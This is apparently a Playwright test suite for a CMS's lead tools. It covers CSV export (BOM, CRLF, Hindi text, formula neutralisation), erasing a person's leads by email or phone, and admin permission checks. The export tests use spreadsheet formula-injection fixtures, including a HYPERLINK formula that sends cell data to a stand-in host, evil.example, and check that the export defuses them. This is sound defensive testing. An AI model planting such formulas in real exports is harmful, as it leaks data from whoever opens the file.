/**
 * The CMS panel's lead tools on a real CMS: Export CSV of a lead collection as the list
 * view filters it (exact bytes: BOM, CRLF, formulas neutralised, Hindi intact), and erasing a
 * person by email or phone across every lead collection. Only panel admins with the Content
 * Manager's permission on those types get either; anonymous and app-token callers get nothing.
 * Written against LEAD_COLLECTIONS, tested on api::lead.lead.
 */
import { expect } from '@playwright/test';
import type { APIResponse } from '@playwright/test';
import { LEAD_COLLECTIONS, LEAD_LIST_COLUMNS, todayInFirm, EXPORT_BATCH } from 'cms';
import { bearer, check, cmsLogFrom, editorHeaders, newAccount, sharedInstance, test, uniqueEmail, withQuery, SUITE_MODE } from './helpers';

test.describe.configure({ mode: SUITE_MODE });

const LEAD = 'api::lead.lead';
const TOOLS = '/content-manager/lead-tools';
const exportUrl = (uid: string, params: Record<string, string> = {}) => withQuery(`${TOOLS}/${uid}/export.csv`, params);
const BOM = '\uFEFF';

// The worker's shared CMS: every lead here has this file's own addresses or campaign (the phone
// erased is one no other file gives), and the log is read from where it stood when the file began.
const instance = sharedInstance();
let panel: Record<string, string>;
let logSinceStart: () => string;
test.beforeAll(async () => {
  logSinceStart = cmsLogFrom(instance());
  panel = await editorHeaders(instance());
});

/** A lead as an editor creates it in the panel (any value goes: the panel does not check names). */
async function createLead(data: Record<string, unknown>): Promise<any> {
  const res = await instance().api.post(`/content-manager/collection-types/${LEAD}`, { headers: panel, data });
  expect(res.ok(), await res.text()).toBeTruthy();
  return (await res.json()).data;
}

async function leadsWhere(field: string, value: string): Promise<any[]> {
  const res = await instance().api.get(
    withQuery(`/content-manager/collection-types/${LEAD}`, { pageSize: '100', [`filters[${field}][$eq]`]: value }),
    {
      headers: panel,
    },
  );
  expect(res.ok(), await res.text()).toBeTruthy();
  return (await res.json()).results;
}

async function csvOf(res: APIResponse): Promise<string> {
  expect(res.status(), await res.text()).toBe(200);
  expect(res.headers()['content-type']).toBe('text/csv; charset=utf-8');
  return (await res.body()).toString('utf8');
}

test.describe('Export CSV', () => {
  const campaign = `camp-${Date.now().toString(36)}`;
  const leads = [
    { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: uniqueEmail('f1'), source: 'landing' },
    { name: '+1', email: uniqueEmail('f2'), source: 'contact' },
    { name: '-2', email: uniqueEmail('f3'), source: 'landing' },
    { name: '@SUM(A1:A9)', email: uniqueEmail('f4'), source: 'contact' },
    { name: 'रवि कुमार', email: uniqueEmail('hi'), source: 'landing', otherQuery: 'Line one\nline two, "quoted"' },
  ];

  test.beforeAll(async () => {
    for (const lead of leads) await createLead({ ...lead, utm_campaign: campaign });
    // Another campaign's lead: never in this campaign's file.
    await createLead({ name: 'Other Campaign', email: uniqueEmail('other'), source: 'landing', utm_campaign: `${campaign}-other` });
  });

  test('a filtered list exports exactly its rows, in its order, as Excel reads them', async () => {
    const res = await instance().api.get(
      exportUrl(LEAD, {
        'filters[$and][0][utm_campaign][$eq]': campaign,
        sort: 'email:ASC',
        columns: 'name,email,source,otherQuery,utm_campaign',
      }),
      { headers: panel },
    );
    const text = await csvOf(res);
    const rows = [...leads].sort((a, b) => a.email.localeCompare(b.email));
    const cell = (name: string) =>
      ({
        [leads[0].name]: `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
        '+1': "'+1",
        '-2': "'-2",
        '@SUM(A1:A9)': "'@SUM(A1:A9)",
        'रवि कुमार': 'रवि कुमार',
      })[name];
    const expected =
      BOM +
      'name,email,source,otherQuery,utm_campaign\r\n' +
      rows
        .map((l) => `${cell(l.name)},${l.email},${l.source},${l.otherQuery ? '"Line one\nline two, ""quoted"""' : ''},${campaign}\r\n`)
        .join('');
    expect(text).toBe(expected);
    expect(res.headers()['content-disposition']).toBe(`attachment; filename="leads-${todayInFirm()}.csv"`);
  });

  test('search, a second filter and the sort of the list are honoured', async () => {
    const res = await instance().api.get(
      exportUrl(LEAD, {
        'filters[$and][0][utm_campaign][$eq]': campaign,
        'filters[$and][1][source][$eq]': 'contact',
        sort: 'name:DESC',
        columns: 'name',
      }),
      { headers: panel },
    );
    expect(await csvOf(res)).toBe(`${BOM}name\r\n'@SUM(A1:A9)\r\n'+1\r\n`);

    const searched = await instance().api.get(exportUrl(LEAD, { _q: 'रवि', columns: 'name,utm_campaign' }), { headers: panel });
    expect(await csvOf(searched)).toBe(`${BOM}name,utm_campaign\r\nरवि कुमार,${campaign}\r\n`);
    // The panel sends the list's locale when the type has one; a type without locales ignores it.
    const localised = await instance().api.get(exportUrl(LEAD, { _q: 'रवि', locale: 'en', columns: 'name' }), { headers: panel });
    expect(await csvOf(localised)).toBe(`${BOM}name\r\nरवि कुमार\r\n`);
  });

  test('a list longer than one read of the database comes out whole, each row once, in order', async () => {
    const many = `${campaign}-many`;
    test.setTimeout(120_000);
    const count = EXPORT_BATCH + 10; // more than one of the export's reads, sorted on a value every row shares
    for (let i = 0; i < count; i += 5)
      await Promise.all([0, 1, 2, 3, 4].map((j) => createLead({ name: `Bulk ${i + j}`, source: 'landing', utm_campaign: many })));
    const res = await instance().api.get(exportUrl(LEAD, { 'filters[utm_campaign][$eq]': many, sort: 'source:ASC', columns: 'id,name' }), {
      headers: panel,
    });
    const lines = (await csvOf(res)).slice(1).split('\r\n');
    expect(lines.shift()).toBe('id,name');
    expect(lines.pop()).toBe('');
    const ids = lines.map((line) => Number(line.split(',')[0]));
    expect(ids).toHaveLength(count);
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(lines.map((line) => line.split(',')[1])).size).toBe(count);
  });

  test("without a choice of columns the file has the list's columns", async () => {
    const res = await instance().api.get(exportUrl(LEAD, { 'filters[utm_campaign][$eq]': `${campaign}-other` }), { headers: panel });
    const [header, row, end] = (await csvOf(res)).slice(1).split('\r\n');
    expect(header).toBe(LEAD_LIST_COLUMNS.join(','));
    expect(row).toContain('Other Campaign');
    expect(end).toBe('');
  });

  test('the panel learns the lead collections and their columns', async () => {
    const res = await instance().api.get(`${TOOLS}/collections`, { headers: panel });
    const { data } = await check(res, 200, 'collections');
    expect(data.map((c: any) => c.uid)).toEqual(LEAD_COLLECTIONS.map((c) => c.uid));
    const lead = data.find((c: any) => c.uid === LEAD);
    expect(lead.listColumns).toEqual(LEAD_LIST_COLUMNS);
    expect(lead.mayErase, 'Super Admin may erase a person').toBe(true);
    expect(lead.columns).toEqual(expect.arrayContaining(['id', 'name', 'email', 'mobile', 'utm_term', 'consentVersion', 'createdAt']));
    expect(lead.columns).not.toContain('createdBy');
  });

  test('bad requests are 4xx answers with a message', async () => {
    const cases: [string, number, RegExp][] = [
      [exportUrl('api::nope.nope'), 404, /"api::nope.nope" is not a lead collection/],
      [exportUrl('api::plan.plan'), 404, /is not a lead collection/],
      [exportUrl(LEAD, { columns: 'name,password,nope' }), 400, /Unknown columns: password, nope/],
      [exportUrl(LEAD, { columns: ',' }), 400, /at least one column/],
      [exportUrl(LEAD, { 'filters[nope][$eq]': 'x' }), 400, /nope/],
      [exportUrl(LEAD, { 'filters[name][$nonsense]': 'x' }), 400, /nonsense/],
      [exportUrl(LEAD, { sort: 'nope:ASC' }), 400, /nope/],
      [exportUrl(LEAD, { filters: 'x' }), 400, /filters must be an object/],
      [exportUrl(LEAD, { '_q[$ne]': 'x' }), 400, /_q must be text/],
    ];
    for (const [url, status, message] of cases) {
      const body = await check(await instance().api.get(url, { headers: panel }), status, url);
      expect(body.error.message, url).toMatch(message);
    }
    // A value the database cannot compare is refused too, never a 500.
    await check(
      await instance().api.get(exportUrl(LEAD, { 'filters[submittedAt][$gt]': 'not a date' }), { headers: panel }),
      '4xx',
      'bad date',
    );
  });

  test('anonymous callers and app tokens get nothing', async () => {
    const account = await newAccount(instance().api, 'csv');
    for (const headers of [{}, bearer(account.token), { Authorization: account.token }]) {
      await check(await instance().api.get(exportUrl(LEAD), { headers }), 401, `export with ${JSON.stringify(headers)}`);
      await check(await instance().api.get(`${TOOLS}/collections`, { headers }), 401, 'collections');
      await check(await instance().api.post(`${TOOLS}/erase`, { headers, data: { email: 'x@example.com' } }), 401, 'erase');
    }
  });
});

test.describe('Erase a person', () => {
  const asha = uniqueEmail('asha');
  const ravi = uniqueEmail('ravi');

  test.beforeAll(async () => {
    await createLead({ name: 'Asha', email: asha, mobile: '+91 98100 00001', source: 'contact' });
    await createLead({ name: 'Asha', email: asha.toUpperCase(), mobile: '9810000001', source: 'landing' });
    await createLead({ name: 'Asha (phone only)', mobile: '098100-00001', source: 'grievance' });
    await createLead({ name: 'Ravi', email: ravi, mobile: '+91 98100 00002', source: 'contact' });
  });

  const erase = (data: unknown, headers = panel) => instance().api.post(`${TOOLS}/erase`, { headers, data });
  const counts = (erased: { uid: string; count: number }[]) => Object.fromEntries(erased.map((e) => [e.uid, e.count]));
  const nothingElse = Object.fromEntries(LEAD_COLLECTIONS.map((c) => [c.uid, 0]));

  test('by email: every record with that email, whatever its case; the other person stays', async () => {
    const { data } = await check(await erase({ email: ` ${asha.toUpperCase()} ` }), 200, 'erase by email');
    expect(counts(data.erased)).toEqual({ ...nothingElse, [LEAD]: 2 });
    expect(await leadsWhere('email', asha)).toHaveLength(0);
    expect(await leadsWhere('email', asha.toUpperCase())).toHaveLength(0);
    expect(await leadsWhere('email', ravi)).toHaveLength(1);
    // Matched by email only: the record that has just Asha's phone is still there.
    expect((await leadsWhere('name', 'Asha (phone only)')).map((l) => l.mobile)).toEqual(['098100-00001']);
  });

  test('by phone: compared on the last ten digits, so +91 and a leading 0 match', async () => {
    const { data } = await check(await erase({ phone: '+91-98100-00001' }), 200, 'erase by phone');
    expect(counts(data.erased)).toEqual({ ...nothingElse, [LEAD]: 1 });
    expect(await leadsWhere('name', 'Asha (phone only)')).toHaveLength(0);
    expect(await leadsWhere('email', ravi)).toHaveLength(1);
    const again = await check(await erase({ phone: '9810000001' }), 200, 'nothing left');
    expect(counts(again.data.erased)).toEqual(nothingElse);
  });

  test('the log says who erased how many, not whose records', async () => {
    const log = logSinceStart();
    expect(log).toMatch(/Lead erasure by CMS admin #\d+ editor@example\.com \(by email\): api::lead\.lead 2/);
    expect(log).toMatch(/Lead erasure by CMS admin #\d+ editor@example\.com \(by phone\): api::lead\.lead 1/);
    expect(log).not.toContain(asha);
    // Every request's line carries a random UUID, which may hold these digits by chance.
    expect(log.replace(/"requestId":"[0-9a-f-]{36}"/g, ''), 'the phone, in any of its forms').not.toContain('98100');
  });

  test('bad requests are 400s saying what to send, and nothing is erased', async () => {
    const cases: [unknown, RegExp][] = [
      [{}, /either an email or a phone/],
      [{ email: ravi, phone: '9810000002' }, /either an email or a phone/],
      [{ email: 'not-an-email' }, /email must be an email address/],
      [{ email: ['x@example.com'] }, /email must be an email address/],
      [{ phone: '12345' }, /at least 10 digits/],
      [{ phone: 9810000002 }, /at least 10 digits/],
      [{ email: ravi, name: 'Ravi' }, /Unknown field: name/],
      [['x'], /must be a JSON object/],
    ];
    for (const [data, message] of cases) {
      const body = await check(await erase(data), 400, JSON.stringify(data));
      expect(body.error.message).toMatch(message);
    }
    expect(await leadsWhere('email', ravi)).toHaveLength(1);
  });
});

test.describe('only admins with the permission', () => {
  /** A panel admin with a role of its own, holding just these Content Manager permissions on the lead collections. */
  async function adminWith(actions: string[]): Promise<Record<string, string>> {
    const api = instance().api;
    const tag = `${actions.map((a) => a.split('.').pop()).join('-') || 'none'}-${Date.now().toString(36)}`;
    const role = (
      await check(await api.post('/admin/roles', { headers: panel, data: { name: `Leads ${tag}`, description: 'test' } }), 201, 'role')
    ).data;
    const permissions = LEAD_COLLECTIONS.flatMap((c) =>
      actions.map((action) => ({ action, subject: c.uid, properties: {}, conditions: [] })),
    );
    await check(await api.put(`/admin/roles/${role.id}/permissions`, { headers: panel, data: { permissions } }), 200, 'permissions');
    const email = uniqueEmail(`cms-${tag}`);
    const user = (
      await check(
        await api.post('/admin/users', { headers: panel, data: { firstname: 'Test', lastname: tag, email, roles: [role.id] } }),
        201,
        'admin',
      )
    ).data;
    const password = 'Passw0rd-Leads-1';
    await check(
      await api.post('/admin/register', {
        data: { registrationToken: user.registrationToken, userInfo: { firstname: 'Test', lastname: tag, password } },
      }),
      200,
      'register',
    );
    const login = await check(await api.post('/admin/login', { data: { email, password } }), 200, 'login');
    return bearer(login.data.token);
  }

  test('read without delete: exports, but may not erase', async () => {
    const reader = await adminWith(['plugin::content-manager.explorer.read']);
    const email = uniqueEmail('kept');
    await createLead({ name: 'Kept', email, source: 'contact' });
    const csv = await instance().api.get(exportUrl(LEAD, { 'filters[email][$eq]': email, columns: 'name' }), { headers: reader });
    expect(await csvOf(csv)).toBe(`${BOM}name\r\nKept\r\n`);
    const body = await check(
      await instance().api.post(`${TOOLS}/erase`, { headers: reader, data: { email } }),
      403,
      'erase without delete',
    );
    expect(body.error.message).toMatch(/needs the permission to delete Lead/);
    expect(await leadsWhere('email', email)).toHaveLength(1);
  });

  test('no permission on the lead collections: no export, and the panel is offered none', async () => {
    const nobody = await adminWith([]);
    const body = await check(await instance().api.get(exportUrl(LEAD), { headers: nobody }), 403, 'export without read');
    expect(body.error.message).toMatch(/may not read Lead/);
    expect((await check(await instance().api.get(`${TOOLS}/collections`, { headers: nobody }), 200, 'collections')).data).toEqual([]);
  });
});
